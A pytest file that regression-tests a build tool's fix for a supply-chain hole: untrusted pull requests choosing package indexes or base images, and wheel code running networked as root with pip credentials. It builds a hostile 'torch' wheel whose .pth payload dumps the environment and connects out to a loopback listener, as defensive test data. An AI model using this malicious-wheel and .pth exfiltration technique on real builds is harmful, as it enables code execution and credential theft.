"""Issue 23's medium finding: a pull request's build_matrix.yaml chose the package
index torch is installed from, and image creation ran the new venv's Python (so any
`.pth` the wheel ships) as root, on the host network, with the caller's pip settings
(credentials too) in its environment.

Now: a pull request (or KERNEL_MATRIX_UNTRUSTED=1) may not name indexes or base
images at all; and even a trusted run's image creation lets no installed code reach
a network or the caller's pip settings: the host's pip downloads wheels only, and a
container with the network off installs them."""

import base64
import hashlib
import http.server
import io
import json
import os
import socket
import tarfile
import threading
import zipfile
from pathlib import Path

import pytest
from conftest import kernel_matrix, matrix_text


def _listener():
    """A loopback port that records every connection made to it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    seen: list[bytes] = []

    def accept():
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(2)
                try:
                    seen.append(conn.recv(65536))
                except OSError:
                    seen.append(b"")

    threading.Thread(target=accept, daemon=True).start()
    return server, seen


@pytest.mark.processes
def test_a_pull_requests_matrix_cannot_choose_the_index_or_the_base_images(tmp_path):
    server, seen = _listener()
    port = server.getsockname()[1]
    try:
        text = matrix_text(tmp_path)
        assert "images: {}\n" in text and "torch-index: auto\n" in text
        text = text.replace("images: {}\n", 'images:\n  "13.0": attacker/base:1\n')
        text = text.replace("torch-index: auto\n", "torch-index: pytorch\n")
        text += f"upstream:\n  pytorch: http://127.0.0.1:{port}/whl\n  pypi: http://127.0.0.1:{port}/simple\n"
        (tmp_path / "build_matrix.yaml").write_text(text)
        lines = text.splitlines()
        at = {key: lines.index(line) + 1 for key, line in [("image", '  "13.0": attacker/base:1')]}
        at["pytorch"] = lines.index(f"  pytorch: http://127.0.0.1:{port}/whl") + 1
        for env, who in [
            ({"GITHUB_EVENT_NAME": "pull_request"}, "a pull_request event"),
            ({"KERNEL_MATRIX_UNTRUSTED": "1"}, "an untrusted run (KERNEL_MATRIX_UNTRUSTED)"),
        ]:
            environ = {k: v for k, v in os.environ.items() if not k.startswith("GITHUB_")} | env
            for command in (
                ["matrix", "--json"],
                ["matrix", "--check-upstream"],
                ["build", "--variant", "torch214-cxx11-cu130-x86_64-linux", "--image", "offline"],
            ):
                result = kernel_matrix(*command, cwd=tmp_path, env=environ)
                assert result.returncode == 2, result.stderr
                errors = result.stderr.splitlines()
                assert len(errors) == 3, result.stderr  # pytorch, pypi, images: each named with its line
                assert f"build_matrix.yaml:{at['pytorch']}:3: upstream.pytorch = 'http://127.0.0.1:{port}/whl': " in (
                    result.stderr
                )
                assert f"build_matrix.yaml:{at['image']}:3: images.13.0 = 'attacker/base:1': {who}" in result.stderr
                assert not result.stdout
        # A trusted run of the same file may (its owner chose them).
        environ = {
            k: v for k, v in os.environ.items() if not k.startswith("GITHUB_") and k != "KERNEL_MATRIX_UNTRUSTED"
        }
        assert kernel_matrix("matrix", "--json", cwd=tmp_path, env=environ).returncode == 0
        assert seen == []
    finally:
        server.close()


def _wheel(folder: Path, pth: str) -> Path:
    """A 'torch' wheel whose .pth reports to a listener: what a hostile index serves. Its tag is
    the most specific the builder takes, so it wins over the same version on other indexes."""
    files = {
        "torch/__init__.py": "",
        "torch/version.py": "__version__ = '2.14.1'\ncuda = None\n",
        "zz-report.pth": pth,
        "torch-2.14.1.dist-info/METADATA": "Metadata-Version: 2.1\nName: torch\nVersion: 2.14.1\n",
        "torch-2.14.1.dist-info/WHEEL": (
            "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: cp311-cp311-manylinux_2_36_x86_64\n"
        ),
    }
    record = [
        f"{name},sha256={base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b'=').decode()},"
        f"{len(text.encode())}"
        for name, text in files.items()
    ]
    files["torch-2.14.1.dist-info/RECORD"] = "\n".join([*record, "torch-2.14.1.dist-info/RECORD,,"]) + "\n"
    path = folder / "torch-2.14.1-cp311-cp311-manylinux_2_36_x86_64.whl"
    with zipfile.ZipFile(path, "w") as wheel:
        for name, text in files.items():
            wheel.writestr(name, text)
    return path


@pytest.mark.build
def test_no_installed_code_reaches_a_network_or_the_callers_pip_settings(engine, tmp_path, monkeypatch):
    """A trusted run whose index serves a hostile torch: the image is made, the wheel's .pth
    runs (it leaves a note in the image), but it reaches no listener and sees no pip setting."""
    from kernel_matrix.containers import images

    listener, seen = _listener()
    port = listener.getsockname()[1]
    pth = (
        "import os, socket, json; "
        # Closed before the connection is tried: the note must not depend on the interpreter's exit.
        "f = open('/pth-ran', 'w'); f.write(json.dumps({'uid': os.getuid(), 'env': dict(os.environ)})); f.close(); "
        f"s = socket.create_connection(('127.0.0.1', {port}), timeout=3); s.sendall(b'uid=%d' % os.getuid())\n"
    )
    index = tmp_path / "index"
    (index / "simple" / "torch").mkdir(parents=True)
    wheel = _wheel(index, pth)
    (index / "simple" / "torch" / "index.html").write_text(f'<a href="../../{wheel.name}">{wheel.name}</a>\n')
    handler = lambda *a, **kw: http.server.SimpleHTTPRequestHandler(*a, directory=str(index), **kw)  # noqa: E731
    http_server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=http_server.serve_forever, daemon=True).start()
    # The caller's own pip setting, with a credential: it may be used by the host's pip only.
    secret = "s3cret-8f2a"
    monkeypatch.setenv("PIP_TRUSTED_HOST", f"127.0.0.1 canary-{secret}")
    client = engine
    tag = None
    try:
        base = images.offline_base(client, log=lambda m: None)
        url = f"http://127.0.0.1:{http_server.server_address[1]}/simple"
        tag = images.builder_image(
            client, base, torch="2.14", cuda=None, torch_index=url, pip=images.PipSetup.from_host(), log=print
        )
        # Read from the image's filesystem (docker cp): a short-lived container's log can lose its output.
        box = client.containers.create(tag, ["true"], network_disabled=True)
        try:
            archive = b"".join(box.get_archive("/pth-ran")[0])
        finally:
            box.remove(force=True)
        with tarfile.open(fileobj=io.BytesIO(archive)) as tar:
            member = tar.extractfile("pth-ran")
            assert member is not None
            report = json.loads(member.read())
    finally:
        http_server.shutdown()
        listener.close()
        if tag:
            client.images.remove(tag, force=True)
    assert seen == []  # the .pth ran (below) but reached no listener
    assert report["uid"] == 0
    assert not [k for k in report["env"] if k.startswith("PIP_")]
    assert secret not in json.dumps(report)
